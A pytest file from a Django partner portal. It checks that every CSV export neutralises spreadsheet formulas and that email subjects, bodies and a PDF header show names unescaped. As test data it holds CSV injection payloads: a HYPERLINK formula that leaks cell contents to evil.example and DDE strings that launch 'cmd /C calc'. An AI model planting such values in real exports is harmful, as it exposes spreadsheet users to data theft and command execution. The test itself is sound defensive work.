"""What leaves the portal as data, not as a web page: every CSV export neutralises spreadsheet
formulas, and plain text (email subjects and text bodies, the PDF handout's page header) comes
out exactly as typed, with no HTML escaping."""

from __future__ import annotations

import csv
import inspect
import io
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.template import Context, Template
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from consumers.models import CallRecord, Consumer
from consumers.services.batch import batch_preview
from handouts import services as handouts
from portal import emails
from portal.csvexport import csv_response
from portal.models import Company, Partner, PartnerMembership
from tests.handouts.test_handouts import pdf_text
from tests.mailing import deliver
from tests.portal.test_isolation import objects_of_partner_a
from tests.urlwalk import iter_views, url_for

User = get_user_model()

# --- CSV formula injection ----------------------------------------------------------------------

# What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# A hostile value per text column that reaches an export: each starts a formula.
HOSTILE = {
    "company": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "reference": "+1+cmd|' /C calc'!A0",
    "display_name": "-2+3+cmd|' /C calc'!A0",
    "cost_centre": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description_tag": "\t=1+1",
    "remote_display_name": "\r=1+1",
    "remote_address": "=2+5@evil.example",
}
BATCH_LABELS = ['=HYPERLINK("http://evil.example")', "+1@x.example", "-1@x.example", "@SUM(1)"]
EVERY_HOSTILE_VALUE = {*HOSTILE.values(), *BATCH_LABELS}

# The CSV views the walk must find, with the hostile values each writes (a new CSV view is found
# and checked without being listed here).
_LICENCE_COLUMNS = {HOSTILE[k] for k in ("company", "reference", "cost_centre", "description_tag")}
KNOWN_CSV_VIEWS = {
    "partner_licence_consumers_export": _LICENCE_COLUMNS,
    "consumers:licence_consumers_export": _LICENCE_COLUMNS,
    "consumers:batch_report": set(BATCH_LABELS),
    "consumers:endpoint_calls": {HOSTILE["remote_address"], HOSTILE["remote_display_name"]},
}


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


def hostile_objects(personas, make) -> dict[str, object]:
    """Partner A's objects with a formula in every text column that an export writes."""
    Company.objects.filter(pk=personas.company.pk).update(
        name=HOSTILE["company"], reference=HOSTILE["reference"]
    )
    endpoint = make.endpoint("hostile-endpoint", display_name=HOSTILE["display_name"])
    make.team_vmr("hostile-room", display_name=HOSTILE["display_name"])
    Consumer.objects.filter(company=personas.company).update(
        cost_centre=HOSTILE["cost_centre"], description_tag=HOSTILE["description_tag"]
    )
    CallRecord.objects.create(
        consumer=endpoint,
        started_at=timezone.now() - timedelta(hours=1),
        duration_seconds=60,
        direction="in",
        remote_address=HOSTILE["remote_address"],
        remote_display_name=HOSTILE["remote_display_name"],
    )
    batch = batch_preview(
        actor=personas.manager,
        company=personas.company,
        kind="endpoint",
        action="delete",
        addresses=[*BATCH_LABELS, endpoint.address],
    )
    return {
        **objects_of_partner_a(personas),
        "consumer_id": endpoint.public_id,
        "batch_id": batch.public_id,
    }


def csv_exports(client: Client, objects: dict[str, object]) -> dict[str, list[list[str]]]:
    """Every view of the URLconf whose GET answers text/csv (also when asked for `export=csv`,
    as list pages with a CSV download are), with the rows it wrote."""
    found = {}
    for entry in iter_views():
        response = client.get(url_for(entry, objects), {"export": "csv"})
        if response.status_code == 200 and response["Content-Type"].startswith("text/csv"):
            found[entry.name] = rows_of(response)
    return found


def test_every_csv_export_neutralises_formulas(personas, make, db):
    objects = hostile_objects(personas, make)
    client = Client()
    client.force_login(personas.manager)
    exports = csv_exports(client, objects)
    assert KNOWN_CSV_VIEWS.keys() <= exports.keys(), "the walk should find every CSV export"
    for name, rows in exports.items():
        cells = [cell for row in rows for cell in row]
        assert [c for c in cells if c.startswith(FORMULA_PREFIXES)] == [], name
        # The hostile values are there, as text: the walk checked real data.
        as_text = {c[1:] for c in cells if c.startswith("'")} & EVERY_HOSTILE_VALUE
        assert as_text >= KNOWN_CSV_VIEWS.get(name, set()), name
        assert as_text, f"{name}: no hostile value reached the export"


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_a_cell_starting_a_formula_is_written_as_text(prefix):
    response = csv_response(
        filename="x.csv", header=["a", "b", "c"], rows=[[f"{prefix}1+1", "plain", -5]]
    )
    assert rows_of(response) == [["a", "b", "c"], [f"'{prefix}1+1", "plain", "-5"]]


# --- plain text: emails and the PDF page header ----------------------------------------------

# Names as partner staff type them: quotes, ampersands, angle brackets, accents, Arabic, CJK.
NAMES = {
    "partner": 'O\'Brien & Sons <Partners> "Best"',
    "company": "Café Ångström & Søn 'Nord' <AS> شركة الأمل 東京支社",
    "person": "Zoë O'Connor-Åström & 李小龍 <CEO>",
}
HTML_ESCAPES = ("&amp;", "&#x27;", "&#39;", "&lt;", "&gt;", "&quot;", "&#34;")


def email_functions() -> dict[str, object]:
    """Every email of portal.emails: its public functions, but render() and send() under them
    and the password reset (Django's context; its own test is below)."""
    return {
        name: fn
        for name, fn in inspect.getmembers(emails, inspect.isfunction)
        if fn.__module__ == emails.__name__
        and not name.startswith("_")
        and name not in {"render", "send", "password_reset"}
    }


def email_arguments(fn, values: dict[str, object]) -> dict[str, object]:
    """The arguments of an email function, chosen by parameter name (optional ones left out)."""
    required = [p.name for p in inspect.signature(fn).parameters.values() if p.default is p.empty]
    missing = [name for name in required if name not in values]
    if missing:
        raise LookupError(f"{fn.__name__}: no test value for {missing}; add them to the walk")
    return {name: values[name] for name in required}


@pytest.fixture
def named(personas, make):
    """Partner A, its company, a staff member, an invitee and a calling domain, every name
    typed with characters that HTML escapes and non-Latin letters."""
    from domains.records import required_records
    from domains.services import calling_domain_add

    Partner.objects.filter(pk=personas.partner.pk).update(name=NAMES["partner"])
    Company.objects.filter(pk=personas.company.pk).update(
        name=NAMES["company"], contact_name=NAMES["person"]
    )
    company = Company.objects.select_related("partner").get(pk=personas.company.pk)
    invitee = make.user("zoe.oconnor", company=company, full_name=NAMES["person"])
    domain = calling_domain_add(actor=personas.manager, company=company, name="brien.example")
    from api.services import webhook_endpoint_create

    endpoint = webhook_endpoint_create(
        actor=personas.manager, url="https://hooks.example/a?b=1&c=2", events=["company.created"]
    )[0]
    endpoint.partner = company.partner  # as renamed above
    endpoint.disabled_reason = "Failed for too long; last error: HTTP 500 <Server & Co>"
    return {
        "endpoint": endpoint,
        "partner": company.partner,
        "company": company,
        "membership": PartnerMembership.objects.get(user=personas.regular),
        "email": "someone@x.example",
        "invitation": invitee.invitation,
        "link": "http://portal.test/invite/abc/",
        "reminder": True,
        "domain": domain,
        "records": required_records(domain),
        "days_left": 3,
        "count": 2,
        "reason": "the evaluation ended",
        "expires_at": timezone.now() + timedelta(days=7),
        "lifetime_days": 30,
    }


def assert_plain(text: str, where: str) -> None:
    found = [e for e in HTML_ESCAPES if e in text]
    assert not found, f"{where}: HTML escapes {found} in plain text:\n{text}"


def test_every_email_subject_and_text_body_reads_as_typed(named, mailoutbox):
    functions = email_functions()
    assert len(functions) >= 8, "the walk should see every email of portal.emails"
    deliver()  # what making the invitee and the domain wrote
    for name, fn in functions.items():
        mailoutbox.clear()
        fn(**email_arguments(fn, named))
        deliver()
        assert len(mailoutbox) == 1, name
        message = mailoutbox[0]
        assert_plain(message.subject, f"{name} subject")
        assert_plain(message.body, f"{name} text body")
        shown = [n for n in NAMES.values() if n in message.subject + message.body]
        assert shown, f"{name}: no name shown as typed:\n{message.subject}\n{message.body}"
        html = message.alternatives[0][0]
        assert "&lt;" in html and not any(n in html for n in shown), f"{name}: HTML unescaped"


def test_an_email_subject_is_exactly_the_names_as_typed(named, mailoutbox):
    deliver()
    mailoutbox.clear()
    emails.trial_ended(named["company"], days_left=0)
    deliver()
    assert mailoutbox[0].subject == f"{NAMES['company']}: the evaluation has ended"
    emails.staff_invitation(named["membership"])
    deliver()
    assert mailoutbox[1].subject == f"You are invited to the {NAMES['partner']} partner portal"


def test_the_password_reset_email_reads_as_typed(personas, mailoutbox):
    address = "o'brien&sons@a.example"  # a valid address, with characters HTML escapes
    User.objects.filter(pk=personas.regular.pk).update(email=address, username=address)
    response = Client().post(reverse("password_reset"), {"email": address})
    assert response.status_code == 302
    deliver()
    (message,) = mailoutbox
    assert_plain(message.subject + message.body, "password reset")
    assert f"account for {address}." in message.body


def test_the_pdf_page_header_reads_as_typed(named, tmp_path):
    pdf = handouts.handout_render_pdf(company=named["company"])
    text = pdf_text(pdf, tmp_path)
    assert_plain(text, "PDF")
    header = text.splitlines()[0]  # the @page rule's generated content, a CSS string
    # Text extraction gives a right-to-left run in visual order (and "الأمل" as a ligature):
    # one Arabic word is compared, in either order.
    for typed in (NAMES["partner"], "Café Ångström & Søn 'Nord' <AS>", "東京支社"):
        assert typed in header, header
    assert "شركة" in header or "شركة"[::-1] in header, header
    assert "\\" not in header, "no CSS escape shows"


@pytest.mark.parametrize(
    ("value", "css"),
    [
        ("O'Brien & Sons", "O'Brien & Sons"),
        ('"quoted" \\ back', "\\22 quoted\\22  \\5c  back"),
        ("</style><script>", "\\3c /style\\3e \\3c script\\3e "),
        ("line\nbreak\x00", "line\\a break\\0 "),
        ("شركة 東京 Zoë", "شركة 東京 Zoë"),
    ],
)
def test_cssstring_escapes_for_css_not_html(value, css):
    rendered = Template("{{ value|cssstring }}").render(Context({"value": value}))
    assert rendered == css
